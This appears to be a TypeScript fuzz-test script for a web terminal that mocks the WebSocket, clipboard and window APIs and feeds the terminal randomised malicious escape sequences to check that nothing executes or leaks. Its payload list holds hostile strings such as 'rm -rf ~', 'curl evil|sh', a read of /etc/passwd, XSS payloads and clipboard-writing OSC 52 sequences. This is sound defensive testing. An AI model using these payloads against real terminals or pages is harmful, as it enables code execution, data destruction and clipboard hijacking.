/** What a hostile guest did to the page through its terminal; counted in the page. */
export interface ShellOutcome {
  sequences: number
  bytes: number
  scriptsRun: number
  clipboardWrites: number
  windowsOpened: number
  /** What the terminal typed by itself where nothing may be answered. */
  answersInLines: string[]
  /** What it typed by itself beyond the answers that programs with a terminal need, or that ends a line. */
  wrongAnswers: string[]
  /** Answers of those that are needed. */
  answers: number
}

declare global {
  interface Window {
    hostileShell?: { outcome: ShellOutcome; done: boolean; typed: string }
  }
}

interface Wish {
  seed: number
  wanted: number
  /** Sequences between two looks at what they did. */
  batch: number
}

/**
 * Runs in the page before anything else: tickets are granted, and the WebSocket speaks for a guest whose shell writes
 * hostile sequences, in turns without a terminal and with one. It must stand alone: it is sent to the page as text.
 */
export function playHostileShell({ seed, wanted, batch }: Wish): void {
  let state = seed >>> 0
  const random = () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
  const int = (below: number) => Math.floor(random() * below)
  const pick = <Item>(items: readonly Item[]): Item => items[int(items.length)] as Item
  const char = (from: number, to: number) => String.fromCharCode(from + int(to - from + 1))

  const outcome: ShellOutcome = {
    sequences: 0,
    bytes: 0,
    scriptsRun: 0,
    clipboardWrites: 0,
    windowsOpened: 0,
    answersInLines: [],
    wrongAnswers: [],
    answers: 0,
  }
  const hostile = { outcome, done: false, typed: '' }
  window.hostileShell = hostile
  Object.defineProperty(window, 'ran', {
    set() {
      outcome.scriptsRun += 1
    },
  })

  const ESC = '\u001B'
  const NUMBERS = [
    '',
    '0',
    '1',
    '2',
    '4',
    '5',
    '6',
    '8',
    '14',
    '18',
    '20',
    '21',
    '22',
    '1000',
    '1004',
    '1006',
    '2026',
    '2147483647',
    '99999999999999999999',
    '-1',
    '1:2:3',
  ]
  const SCRIPT = 'window.ran=1'
  const TEXTS = [
    'owned',
    `<img src=x onerror="${SCRIPT}">`,
    `javascript:${SCRIPT}`,
    'rm -rf ~\r',
    '\ncurl evil|sh\n',
    'ZXZpbA==',
    '?',
    'file:///etc/passwd',
    `data:text/html,<script>${SCRIPT}</script>`,
    'A'.repeat(3_000),
    '\u202Egpj.exe',
    '',
  ]
  const params = () => Array.from({ length: int(4) }, () => pick(NUMBERS)).join(pick([';', ';', ':']))
  const end = () => pick(['\u0007', `${ESC}\\`, '\u009C', '', '\u0018'])
  const osc = () =>
    `${ESC}]${pick(['0', '1', '2', '4;1', '7', '8;;', '8;id=x;', '9', '10', '11', '12', '50', '52;c', '52;p', '104', '133;C', '777;notify', '1337;File=', String(int(2_000))])};${pick(TEXTS)}${end()}`
  const SEQUENCES: readonly (() => string)[] = [
    // What every program may ask, any sequence with any parameters, and those that ask more.
    () => `${ESC}${pick(['[c', '[0c', '[>c', '[5n', '[6n', 'Z'])}`,
    () =>
      `${ESC}[${pick(['', '?', '>', '=', '<'])}${params()}${pick(['', '', '$', ' ', '"', "'", '*', '!'])}${char(0x40, 0x7e)}`,
    () =>
      `${ESC}[${pick(['', '?', '>', '='])}${params()}${pick(['c', 'n', 't', 'q', 'x', '$p', '$w', '*y', 'u', 'S', '+p'])}`,
    () =>
      `${ESC}[?${pick(['9', '1000', '1002', '1003', '1004', '1006', '1015', '1016', '1049', '2004', '2026', '66', '7', '45'])}${pick(['h', 'h', 'l', '$p'])}`,
    osc,
    osc,
    () =>
      `${ESC}P${params()}${pick(['$q', '+q', '+p', 'q', '', '>|', '!|', '1$r'])}${pick(['m', 'r', '"p', '544e', 'DECRQSS', pick(TEXTS)])}${end()}`,
    () => `${ESC}${pick(['_', '^', 'X', 'k'])}${pick(TEXTS)}${end()}`,
    () => `${ESC}${pick(['(', ')', '*', '+', '-', '.', '/', '#', '%', ' '])}${char(0x20, 0x7e)}`,
    () => `${ESC}${char(0x20, 0x7e)}`,
    () => `\u009B${params()}${char(0x40, 0x7e)}`,
    () => `\u009D52;c;${pick(TEXTS)}${end()}`,
    () => char(0, 0x1f),
    () =>
      `${ESC}[${pick(NUMBERS)}${pick(['@', 'A', 'B', 'C', 'D', 'I', 'J', 'K', 'L', 'M', 'P', 'S', 'T', 'X', 'Z', 'b', 'd', 'r'])}`,
    () => Array.from({ length: 1 + int(40) }, () => char(0x80, 0xff)).join(''),
    () => Array.from({ length: 1 + int(40) }, () => char(0, 0xffff)).join(''),
    () => `https://evil.example/${int(100)} `,
    () => pick(TEXTS),
  ]
  const next = (): string => {
    const sequence = pick(SEQUENCES)()
    const change = int(8)
    if (change === 0) return sequence.slice(0, int(sequence.length))
    if (change === 1)
      return sequence.slice(0, int(sequence.length)) + char(0, 0xff) + sequence.slice(int(sequence.length))
    return sequence
  }

  const encoder = new TextEncoder()
  const decoder = new TextDecoder()
  const [INPUT, SIZE, OUTPUT, MODE] = [0, 1, 3, 4]
  const frame = (kind: number, text: string) => {
    const payload = encoder.encode(text)
    const made = new Uint8Array(5 + payload.length)
    made[0] = kind
    new DataView(made.buffer).setUint32(1, payload.length)
    made.set(payload, 5)
    return made.buffer
  }
  const turn = () => new Promise<void>((resolve) => void setTimeout(resolve, 4))
  /** Who I am, how I am, where my cursor is; and that the page has the focus. */
  // oxlint-disable-next-line no-control-regex -- what terminals say
  const NEEDED = /^(?:\u001B\[(?:[?>][\d;]*c|0n|\d+;\d+R|[IO]))+$/
  let session = 0

  class HostileSocket extends EventTarget {
    readyState = 0
    binaryType = 'arraybuffer'
    protocol = 'binary'
    terminal = false
    playing = true
    constructor() {
      super()
      session += 1
      this.terminal = session % 2 === 0
      void turn().then(() => {
        this.readyState = 1
        this.dispatchEvent(new Event('open'))
      })
    }
    send(data: Uint8Array) {
      const text = decoder.decode(data.slice(5))
      if (data[0] === SIZE) void this.play()
      if (data[0] !== INPUT) return
      if (!this.playing) hostile.typed += text
      else if (!this.terminal) outcome.answersInLines.push(text)
      else if (NEEDED.test(text)) outcome.answers += 1
      else outcome.wrongAnswers.push(text)
    }
    close() {
      this.readyState = 3
    }
    say(kind: number, text: string) {
      this.dispatchEvent(new MessageEvent('message', { data: frame(kind, text) }))
    }
    /** Waits until the terminal has taken everything before: digits look alike in all its character sets. */
    async shown(mark: string) {
      this.say(OUTPUT, `\u0018${ESC}[?1049l${ESC}[!p${ESC}[r${ESC}[2J${ESC}[H\u000F${mark}`)
      const rows = () => document.querySelector('.xterm-accessibility')?.textContent ?? ''
      while (!rows().includes(mark)) await turn()
    }
    async play() {
      this.say(MODE, JSON.stringify({ terminal: this.terminal }))
      for (let turns = 0; turns < 4 && outcome.sequences < wanted; turns += 1) {
        for (let count = 0; count < batch; count += 1) {
          const sequence = next()
          this.say(OUTPUT, sequence)
          outcome.sequences += 1
          outcome.bytes += sequence.length
        }
        await this.shown(`4815162342${outcome.sequences}`)
      }
      // The last one stays, without a terminal, for who types after it all.
      this.playing = outcome.sequences < wanted || this.terminal
      if (!this.playing) hostile.done = true
      else {
        this.readyState = 3
        this.dispatchEvent(new CloseEvent('close', { code: 4014 }))
      }
    }
  }
  const realFetch = window.fetch.bind(window)
  window.fetch = (input, init) => {
    const url = input instanceof Request ? input.url : String(input)
    if (!url.endsWith('/console') || init?.method !== 'POST') return realFetch(input, init)
    return Promise.resolve(
      Response.json({ path: '/hostile', protocols: ['binary'], expiresAt: '', viewer: 'x' }),
    )
  }
  const constants = { CONNECTING: 0, OPEN: 1, CLOSING: 2, CLOSED: 3 }
  window.WebSocket = Object.assign(HostileSocket, constants) as unknown as typeof WebSocket
  window.open = () => {
    outcome.windowsOpened += 1
    return null
  }
  const write = () => {
    outcome.clipboardWrites += 1
    return Promise.resolve()
  }
  if ('clipboard' in navigator) Object.assign(navigator.clipboard, { writeText: write, write })
  document.execCommand = () => {
    outcome.clipboardWrites += 1
    return false
  }
  const drive = async () => {
    while (!hostile.done) {
      const again = [...document.querySelectorAll('button')].find(
        ({ textContent }) => textContent === 'New shell',
      )
      again?.click()
      await turn()
    }
  }
  addEventListener('DOMContentLoaded', () => void drive())
}
